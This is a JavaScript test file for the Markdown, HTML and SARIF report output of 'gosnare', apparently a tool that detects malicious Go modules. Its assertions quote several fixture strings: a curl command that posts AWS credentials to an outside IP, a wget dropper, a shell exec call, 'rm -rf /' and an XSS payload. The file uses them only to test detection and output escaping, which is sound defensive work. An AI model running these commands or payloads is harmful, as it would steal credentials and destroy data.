// Markdown, HTML and SARIF reports rendered from fixture results (with dynamic phases).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createRequire } from 'node:module';
import addFormats from 'ajv-formats';
import { renderMarkdown, mdCode, mdFence } from '../src/report/markdown.js';
import { renderHtml } from '../src/report/html.js';
import { renderSarif } from '../src/report/sarif.js';
import { renderReport } from '../src/report/index.js';
import { indicators } from '../src/report/facts.js';
import { loadRules } from '../src/static/rules/load.js';
import { parseResult } from '../src/batch/result-file.js';
const root = fileURLToPath(new URL('../../', import.meta.url));
const fixture = (name) => parseResult(readFileSync(join(root, 'test/fixtures/results', name), 'utf8'), name);
// ajv-draft-04 is CommonJS with a default-exported class.
const Ajv04 = createRequire(import.meta.url)('ajv-draft-04');
test('fixtures are valid results', () => {
    for (const f of ['init-reverse-shell.dynamic.json', 'typosquat-dropper.dynamic.json', 'benign-cli-git.static.json', 'hostile-strings.dynamic.json']) {
        assert.ok(fixture(f).schemaVersion);
    }
});
test('markdown: verdict and reasons first, then indicators, process tree, network timeline, findings, module facts', () => {
    const md = renderMarkdown(fixture('typosquat-dropper.dynamic.json'));
    const order = ['# gosnare: MALICIOUS', '## Reasons', '## Indicators', '**Process tree**', '**Network timeline**', '## Static findings', '## Module'].map((h) => md.indexOf(h));
    assert.ok(order.every((i) => i >= 0), `missing section: ${order}`);
    assert.deepEqual([...order].sort((a, b) => a - b), order);
    assert.match(md, /\*\*yes\*\* \(seen at run time\)/, 'confirmed reasons are marked');
    assert.match(md, /\| domain \| `mirror\.decimal-cdn\.example` \| \*\*static \+ dynamic\*\* \|/);
    assert.match(md, /└─ curl -s -d @\/root\/\.aws\/credentials http:\/\/198\.51\.100\.23\/c/);
    assert.match(md, /\| 0\.95 \| 24 \| http \| `POST http:\/\/198\.51\.100\.23\/c` \|/);
    assert.match(md, /\| typosquat of \| `github\.com\/shopspring\/decimal` \|/);
    assert.match(md, /```go\n  217 \| exec\.Command\("\/bin\/sh", "-c", c\)\.Start\(\)\n```/);
    assert.match(md, /\| h1 \| `h1:Zm9v/);
});
test('markdown: module strings cannot break out of code spans, fences or table cells', () => {
    assert.equal(mdCode('a`b'), '``a`b``');
    assert.equal(mdCode('`x'), '`` `x ``');
    assert.equal(mdFence('```\nrm -rf /\n```'), '````\n```\nrm -rf /\n```\n````');
    const md = renderMarkdown(fixture('hostile-strings.dynamic.json'));
    // Every occurrence of the payload sits inside a code span or fence: outside them no raw tag remains.
    const outsideCode = md.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '').replace(/(`+)[\s\S]*?\1/g, '');
    assert.doesNotMatch(outsideCode, /<img|<\/script/);
    // A pipe inside a cell is escaped so the row keeps its column count.
    const dropper = renderMarkdown(fixture('typosquat-dropper.dynamic.json'));
    const cmdRow = dropper.split('\n').find((l) => l.startsWith('| command | `wget'));
    assert.equal(cmdRow.split(/(?<!\\)\|/).length, 5, cmdRow);
});
test('html: one self-contained page with verdict, process tree, timeline, connections and collapsible findings', () => {
    const html = renderHtml(fixture('typosquat-dropper.dynamic.json'));
    assert.match(html, /^<!DOCTYPE html>/);
    assert.doesNotMatch(html, /<(link|img|iframe)\b|\bsrc=|https?:\/\/[^"<\s]*\.(css|js)\b|@import/i, 'no external assets');
    assert.match(html, /<span class="badge malicious" id="verdict">MALICIOUS<\/span>/);
    assert.match(html, /<ul class="tree"><li><span class="proc"><code>\/harness\/harness<\/code>/);
    assert.match(html, /<span class="proc shell"><code>\/bin\/sh -c wget/);
    assert.match(html, /<svg class="timeline"/);
    assert.match(html, /<table class="connections">[\s\S]*198\.51\.100\.23:80/);
    assert.match(html, /<details class="finding" open>/);
    assert.match(html, /<span class="ln hit"><span class="no">217<\/span>/);
    assert.match(html, /<span class="s">&quot;\/bin\/sh&quot;<\/span>/, 'Go strings highlighted');
    assert.match(html, /CONFIRMED/);
    assert.match(html, /Content-Security-Policy" content="default-src 'none'; style-src 'sha256-[^']+'; script-src 'sha256-/);
});
test('html: attacker-controlled strings are escaped everywhere (snippet, argv, host, headers, file names)', () => {
    const html = renderHtml(fixture('hostile-strings.dynamic.json'));
    assert.equal(html.split('<script>').length, 2, 'only the page script');
    assert.equal(html.split('</script>').length, 2);
    assert.doesNotMatch(html, /<img/);
    assert.doesNotMatch(html, /onerror="/);
    assert.ok(html.includes('&lt;/script&gt;&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;'));
    // Attribute context: the payload in a data/id attribute stays quoted and escaped.
    assert.doesNotMatch(html, /="[^"]*<\/script>/);
});
test('sarif: validates against the SARIF 2.1.0 schema, with rule metadata, relative locations and levels', () => {
    const schemaPath = join(root, 'node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json');
    const schema = JSON.parse(readFileSync(schemaPath, 'utf8'));
    assert.match(schema.title, /SARIF\) Version 2\.1\.0/);
    // The official schema's language pattern is not valid with the `u` flag: compile patterns without it.
    const ajv = new Ajv04({ allErrors: true, strict: false, unicodeRegExp: false });
    addFormats(ajv);
    const validate = ajv.compile(schema);
    const pack = loadRules().rules;
    for (const name of ['typosquat-dropper.dynamic.json', 'init-reverse-shell.dynamic.json', 'benign-cli-git.static.json', 'hostile-strings.dynamic.json']) {
        const log = JSON.parse(renderSarif(fixture(name), pack));
        assert.ok(validate(log), `${name}: ${JSON.stringify(validate.errors?.slice(0, 3))}`);
    }
    // A deliberately broken log must fail: the validator is not a no-op.
    assert.equal(validate({ version: '2.1.0', runs: [{ tool: { driver: {} } }] }), false);
    const r = fixture('typosquat-dropper.dynamic.json');
    const log = JSON.parse(renderSarif(r, pack));
    assert.equal(log.version, '2.1.0');
    const run = log.runs[0];
    const rule = run.tool.driver.rules.find((x) => x.id === 'exec-download-pipe-shell');
    const packRule = pack.find((x) => x.id === 'exec-download-pipe-shell');
    assert.equal(rule.name, 'ExecDownloadPipeShell');
    assert.equal(rule.shortDescription.text, packRule.message);
    assert.equal(rule.fullDescription.text, packRule.description.trim());
    assert.ok(rule.help.text.length > 0);
    assert.deepEqual(rule.properties.tags, ['security', packRule.category]);
    assert.equal(rule.defaultConfiguration.level, packRule.severity === 'critical' || packRule.severity === 'high' ? 'error' : packRule.severity === 'medium' ? 'warning' : 'note');
    const res = run.results.find((x) => x.ruleId === 'exec-download-pipe-shell');
    assert.equal(run.tool.driver.rules[res.ruleIndex].id, 'exec-download-pipe-shell');
    assert.deepEqual(res.locations[0].physicalLocation.artifactLocation, { uri: 'decimal.go', uriBaseId: '%SRCROOT%' });
    assert.equal(res.locations[0].physicalLocation.region.startLine, 217);
    assert.equal(res.locations[0].physicalLocation.region.startColumn, 2);
    assert.match(res.locations[0].physicalLocation.region.snippet.text, /exec\.Command/);
    const levels = new Set(run.results.map((x) => x.level));
    assert.ok(levels.has('error') && levels.has('note'), [...levels].join());
    assert.ok(run.results.some((x) => x.ruleId === 'dynamic-credential-access' && x.level === 'error'));
    // A hostile file name becomes a percent-encoded relative URI.
    const hostile = JSON.parse(renderSarif(fixture('hostile-strings.dynamic.json'), pack));
    const uri = hostile.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri;
    assert.ok(uri.startsWith('a%3C/script%3E%3Cimg%20src'), uri);
});
test('indicators merge static and dynamic sightings; fake-DNS addresses are not indicators', () => {
    const iocs = indicators(fixture('typosquat-dropper.dynamic.json'));
    const find = (kind, value) => iocs.find((i) => i.kind === kind && i.value === value);
    assert.equal(find('domain', 'mirror.decimal-cdn.example')?.seen, 'both');
    assert.equal(find('ip', '198.51.100.23')?.seen, 'dynamic');
    assert.equal(find('ip', '10.254.0.2'), undefined);
    assert.equal(find('file', 'read /root/.aws/credentials (bait)')?.seen, 'dynamic');
});
test('renderReport dispatches every format', () => {
    const r = fixture('init-reverse-shell.dynamic.json');
    assert.match(renderReport(r, 'md'), /^# gosnare: MALICIOUS/);
    assert.match(renderReport(r, 'html'), /^<!DOCTYPE html>/);
    assert.equal(JSON.parse(renderReport(r, 'sarif')).version, '2.1.0');
    assert.deepEqual(JSON.parse(renderReport(r, 'json')), r);
    assert.match(renderReport(r, 'text'), /Verdict: MALICIOUS/);
});
//# sourceMappingURL=report-render.test.js.map